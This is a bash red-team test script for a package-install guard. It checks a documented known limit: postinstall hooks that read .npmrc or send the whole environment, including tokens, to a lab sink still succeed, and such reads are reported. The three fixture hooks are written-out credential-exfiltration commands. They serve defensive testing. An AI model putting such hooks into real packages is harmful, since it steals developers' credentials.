#!/bin/bash
# R16: known limit: what honest scripts read too (.npmrc, the environment) still holds credentials when a package looks.
#
# Reading it accuses nobody: one in ten honest packages does. Until scripts are shown a configuration and an environment
# without tokens, a small theft of these by POST or GET is seen, told and let go. This test says what is true today; when
# it fails because nothing leaves any more, turn it round, and take the limit out of SECURITY.md.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R16 'npmrc and environment'
rt_package read-npmrc-x 1.0.0 files postinstall 'node take.js .npmrc'
rt_package read-environment-x 1.0.0 - postinstall "node -e \"require('./kit.js').post('/env', process.env)\""
rt_package read-printenv-x 1.0.0 files postinstall 'env | node post-stdin.js'

rt_control
rt_leaked .npmrc env:NPM_TOKEN env:GITHUB_TOKEN env:AWS_SECRET_ACCESS_KEY

if rt_guarded; then
	rt_ok 'known limit: the npmrc leaves' rt_has_leaked .npmrc
	rt_ok 'known limit: the environment leaves' rt_has_leaked env:NPM_TOKEN
	rt_ok 'reading the npmrc is told' [ -n "$(rt_events 'rule.id=npmrc-read' package.name=read-npmrc-x)" ]
	rt_is 'files of value beyond these at the sink' "$(lab_leaked web | grep -vE '^(env:|\.npmrc$)')" ''
	rt_files_kept
	rt_no_survivors
	rt_honest_installed
fi
rt_end
